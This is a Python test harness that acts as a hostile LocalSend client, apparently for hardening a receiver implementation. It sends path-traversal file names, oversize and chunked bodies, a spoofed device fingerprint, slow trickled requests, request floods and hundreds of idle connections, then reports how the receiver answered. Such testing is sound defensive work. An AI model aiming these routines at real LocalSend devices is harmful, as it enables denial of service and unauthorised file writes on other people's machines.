#!/usr/bin/env python3
"""A hostile LocalSend client, written from LocalSend's protocol README (2.2), not from Ferry's
code: it attacks a LocalSend receiver at HOST:PORT and prints one JSON line per attack with what
the receiver answered. Standard library only; its certificate is made with `openssl`.

  localsend_hostile.py ATTACK --address HOST:PORT --home DIR [--file-count N]

Attacks: traversal, oversize-json, claim, no-cert, trickle-head, trickle-json, idle, pipeline.
It never multicasts: it talks to the one address it is given.
"""

import argparse
import hashlib
import json
import os
import socket
import ssl
import subprocess
import sys
import time

API = "/api/localsend/v2"


def emit(**fields):
    sys.stdout.write(json.dumps(fields) + "\n")
    sys.stdout.flush()


def certificate(home):
    os.makedirs(home, exist_ok=True)
    key, cert = os.path.join(home, "key.pem"), os.path.join(home, "cert.pem")
    if not os.path.exists(cert):
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                        "ec_paramgen_curve:prime256v1", "-nodes", "-keyout", key, "-out", cert,
                        "-days", "30", "-subj", "/CN=hostile"], check=True, capture_output=True)
    der = ssl.PEM_cert_to_DER_cert(open(cert).read())
    return key, cert, hashlib.sha256(der).hexdigest().upper()


def connect(address, home, client_cert=True, timeout=10):
    host, port = address.rsplit(":", 1)
    raw = socket.create_connection((host, int(port)), timeout=timeout)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.minimum_version = ssl.TLSVersion.TLSv1_3
    context.set_alpn_protocols(["http/1.1"])
    if client_cert:
        key, cert, _ = certificate(home)
        context.load_cert_chain(cert, key)
    return context.wrap_socket(raw, server_hostname=host)


def read_answer(sock, limit=1 << 20):
    """The status and body of the answer (None, b"" when the connection closed first)."""
    data = b""
    try:
        while b"\r\n\r\n" not in data and len(data) < limit:
            chunk = sock.recv(4096)
            if not chunk:
                break
            data += chunk
        head, _, body = data.partition(b"\r\n\r\n")
        length = 0
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.strip().lower() == b"content-length" and value.strip().isdigit():
                length = min(int(value.strip()), limit)
        while len(body) < length:
            chunk = sock.recv(4096)
            if not chunk:
                break
            body += chunk
    except (OSError, ssl.SSLError):
        head, body = data, b""
    line = data.split(b"\r\n", 1)[0].split(b" ")
    status = int(line[1]) if len(line) > 1 and line[1].isdigit() else None
    return status, body


def request(address, home, method, path, body=b"", headers=None, client_cert=True):
    sock = connect(address, home, client_cert)
    head = "%s %s HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n" % (method, path, len(body))
    for name, value in (headers or {}).items():
        head += "%s: %s\r\n" % (name, value)
    sock.sendall(head.encode() + b"\r\n" + body)
    answer = read_answer(sock)
    sock.close()
    return answer


def device(fingerprint):
    return {"alias": "hostile", "version": "2.2", "deviceModel": "x", "deviceType": "mobile",
            "fingerprint": fingerprint, "port": 53317, "protocol": "https", "download": False}


def prepare(address, home, names, fingerprint=None):
    _, _, own = certificate(home)
    files = {}
    for index, name in enumerate(names):
        files["f%d" % index] = {"id": "f%d" % index, "fileName": name, "size": 4,
                                "fileType": "application/octet-stream"}
    body = json.dumps({"info": device(fingerprint or own), "files": files}).encode()
    status, answer = request(address, home, "POST", API + "/prepare-upload", body,
                             {"Content-Type": "application/json"})
    if status == 200:
        # Accepted: end the session at once, so that the next attack is not "busy".
        session = json.loads(answer or b"{}").get("sessionId", "")
        request(address, home, "POST", API + "/cancel?sessionId=" + session)
    return status


def attack_traversal(args):
    names = ["../evil", "/tmp/evil-abs", "a/../../evil", "..", ".", "a//b", "a/./b",
             "\u2215evil", "..\u0338/evil", "a/\u200d../evil", "\u202e..", "a\x00b", "a\\..\\evil",
             "%2e%2e/evil", "a/" * 300 + "x"]
    for name in names:
        emit(attack="traversal", name=name, status=prepare(args.address, args.home, [name]))


def attack_oversize_json(args):
    big = b"{" + b" " * (5 << 20) + b"}"
    emit(attack="oversize-json", status=request(args.address, args.home, "POST",
                                                API + "/prepare-upload", big)[0])
    # Announced small, sent large: the body is counted, not the header believed.
    sock = connect(args.address, args.home)
    sock.sendall(b"POST %s/prepare-upload HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
                 % API.encode())
    sent, status = 0, None
    try:
        while sent < (6 << 20):
            piece = b" " * 65536
            sock.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
            sent += len(piece)
    except (OSError, ssl.SSLError):
        pass
    status = read_answer(sock)[0]
    emit(attack="oversize-json-chunked", status=status, sent=sent)
    # Many files.
    files = {"f%d" % i: {"id": "f%d" % i, "fileName": "f%d" % i, "size": 1, "fileType": "x"}
             for i in range(args.file_count)}
    _, _, own = certificate(args.home)
    body = json.dumps({"info": device(own), "files": files}).encode()
    emit(attack="too-many-files", count=args.file_count,
         status=request(args.address, args.home, "POST", API + "/prepare-upload", body)[0])


def attack_claim(args):
    other = "AB" * 32
    body = json.dumps(device(other)).encode()
    emit(attack="claim-register", status=request(args.address, args.home, "POST",
                                                 API + "/register", body)[0])
    emit(attack="claim-prepare", status=prepare(args.address, args.home, ["a.txt"], other))


def attack_no_cert(args):
    try:
        status = request(args.address, args.home, "POST", API + "/prepare-upload", b"{}",
                         client_cert=False)[0]
    except (OSError, ssl.SSLError) as error:
        status = None
        emit(attack="no-cert", status=None, error=str(error)[:200])
        return
    emit(attack="no-cert", status=status)


def trickle(args, data, label, opening=b""):
    """Sends `opening` at once, then `data` a byte every 0.5 s; reports when it was cut off."""
    sock = connect(args.address, args.home)
    sock.sendall(opening)
    started = time.time()
    closed_after = None
    for byte in data:
        try:
            sock.sendall(bytes([byte]))
        except (OSError, ssl.SSLError):
            closed_after = time.time() - started
            break
        time.sleep(0.5)
        if time.time() - started > 40:
            break
    if closed_after is None:
        sock.settimeout(2)
        try:
            if sock.recv(1) == b"":
                closed_after = time.time() - started
        except (OSError, ssl.SSLError):
            closed_after = time.time() - started
    emit(attack=label, closedAfter=closed_after)


def attack_trickle_head(args):
    trickle(args, b"POST %s/register HTTP/1.1\r\nHost: x\r\nX-Padding: %s\r\n\r\n"
            % (API.encode(), b"a" * 200), "trickle-head")


def attack_trickle_json(args):
    _, _, own = certificate(args.home)
    body = json.dumps(device(own)).encode()
    head = b"POST %s/register HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % (
        API.encode(), len(body))
    trickle(args, body, "trickle-json", opening=head)


def attack_pipeline(args):
    """Requests sent back to back for 15 s, no answer ever read."""
    sock = connect(args.address, args.home)
    sock.settimeout(1)
    one = b"GET %s/info HTTP/1.1\r\nHost: x\r\n\r\n" % API.encode()
    batch = one * 100
    sent, started = 0, time.time()
    while time.time() - started < 15:
        try:
            sock.send(batch)
            sent += len(batch)
        except socket.timeout:
            continue
        except (OSError, ssl.SSLError):
            break
    emit(attack="pipeline", sentBytes=sent, requests=sent // len(one))


def attack_hit_and_run(args):
    """Ten uploads whose connection closes as soon as the body is sent, the answer never read;
    then two honest uploads of the same session (a 429 is tried again for 10 s)."""
    _, _, own = certificate(args.home)
    files = {"f%d" % i: {"id": "f%d" % i, "fileName": "run-%d.bin" % i, "size": 4,
                         "fileType": "application/octet-stream"} for i in range(12)}
    body = json.dumps({"info": device(own), "files": files}).encode()
    status, answer = request(args.address, args.home, "POST", API + "/prepare-upload", body,
                             {"Content-Type": "application/json"})
    if status != 200:
        emit(attack="hit-and-run", prepared=status, honest=[])
        return
    reply = json.loads(answer)
    session, tokens = reply["sessionId"], reply["files"]

    def path(i):
        return API + "/upload?sessionId=%s&fileId=f%d&token=%s" % (session, i, tokens["f%d" % i])

    for i in range(10):
        sock = connect(args.address, args.home)
        sock.sendall(b"POST %s HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n\r\nabcd"
                     % path(i).encode())
        sock.close()
    honest = []
    for i in (10, 11):
        deadline = time.time() + 10
        while True:
            got = request(args.address, args.home, "POST", path(i), b"abcd")[0]
            if got != 429 or time.time() > deadline:
                break
            time.sleep(0.2)
        honest.append(got)
    request(args.address, args.home, "POST", API + "/cancel?sessionId=" + session)
    emit(attack="hit-and-run", prepared=status, honest=honest)


def attack_idle(args):
    held = []
    refused = 0
    for _ in range(500):
        try:
            held.append(connect(args.address, args.home, timeout=5))
        except (OSError, ssl.SSLError):
            refused += 1
    emit(attack="idle-open", held=len(held), refused=refused)
    time.sleep(args.hold)
    alive = 0
    for sock in held:
        sock.settimeout(0.2)
        try:
            if sock.recv(1) != b"":
                alive += 1
        except socket.timeout:
            alive += 1
        except (OSError, ssl.SSLError):
            pass
    emit(attack="idle-after", held=len(held), alive=alive, seconds=args.hold)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack")
    parser.add_argument("--address", required=True)
    parser.add_argument("--home", required=True)
    parser.add_argument("--file-count", type=int, default=10001)
    parser.add_argument("--hold", type=float, default=35)
    args = parser.parse_args()
    {"traversal": attack_traversal, "oversize-json": attack_oversize_json, "claim": attack_claim,
     "no-cert": attack_no_cert, "trickle-head": attack_trickle_head,
     "trickle-json": attack_trickle_json, "idle": attack_idle, "pipeline": attack_pipeline,
     "hit-and-run": attack_hit_and_run}[args.attack](args)


if __name__ == "__main__":
    main()
